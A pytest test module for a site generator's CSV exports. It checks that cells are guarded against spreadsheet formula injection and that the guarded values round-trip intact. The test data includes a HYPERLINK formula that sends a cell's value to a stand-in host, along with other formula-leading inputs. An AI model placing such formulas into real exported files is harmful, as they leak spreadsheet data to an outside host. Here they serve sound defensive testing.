"""No cell of a CSV that the site offers is a formula to a spreadsheet, and none is lost by that."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from built import build_site
from hypothesis import example, given
from hypothesis import strategies as st
from test_verify import faults, plant

from generator.exports.formats import csv_bytes, guarded, unguarded
from generator.verify.downloads import csv_rows

HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"Castle")'
texts = st.text(alphabet="'=+-@\t\r\n1.5eE aé\"", max_size=8)


@given(texts)
@example("=1+1")
@example("''=1")
@example("-1.5")
@example("\r=1")
def test_a_guarded_text_begins_with_no_sign_of_a_formula_and_comes_back(text: str) -> None:
    safe = guarded(text)
    assert unguarded(safe) == text
    if safe[:1] in {"=", "+", "-", "@", "\t", "\r", "\n"}:
        float(safe)  # only a number may


@given(st.lists(texts, min_size=2, max_size=4, unique=True), st.floats(-1e9, 1e9))
def test_a_table_comes_back_as_it_was(cells: list[str], figure: float) -> None:
    content = csv_bytes([*cells, "figure"], [[*cells, figure]])
    assert csv_rows(content) == [{**{cell: cell for cell in cells}, "figure": str(figure)}]
    (_, row) = csv.reader(io.StringIO(content.decode(), newline=""))
    assert row[-1] == str(figure), "figures are not texts"


@pytest.mark.parametrize("begins", ["=1", "+A1", "@SUM(A1)", "-A1", "\t=1", "\r=1", "\n=1"])
def test_verify_refuses_an_unguarded_cell(begins: str) -> None:
    with pytest.raises(ValueError, match="row 2 has a formula"):
        csv_rows(f'name\n"{begins}"\n'.encode())


def test_a_hostile_name_is_a_text_in_every_file(mini: Path) -> None:
    for table in mini.parent.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8"))))
        with table.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows(
                [[HOSTILE if cell == "Castle" else cell for cell in row] for row in rows]
            )
    site = build_site(mini, mini.parent / "site", boundaries="auto", jobs=1)
    offered = [path for path in site.files if path.endswith(".csv")]
    assert len(offered) > 8
    named = 0
    for path in offered:
        for row in csv.reader(io.StringIO(site.text(path), newline="")):
            assert HOSTILE not in row, path
            named += f"'{HOSTILE}" in row
    assert named > 8
    assert "apostrophe" in json.loads(site.text("data/datapackage.json"))["textGuard"]
    book = openpyxl.load_workbook(site.folder / "data/atlas.xlsx")
    names = [cell for row in book["areas"].iter_rows() for cell in row if cell.value == HOSTILE]
    assert [cell.data_type for cell in names] == ["s"], "a workbook needs no apostrophe"
    assert faults(site.folder) == []
    plant(site.folder, "data/areas.csv", lambda content: content.replace(b"'=HYPER", b"=HYPER"))
    assert any("data/areas.csv" in fault and "formula" in fault for fault in faults(site.folder))
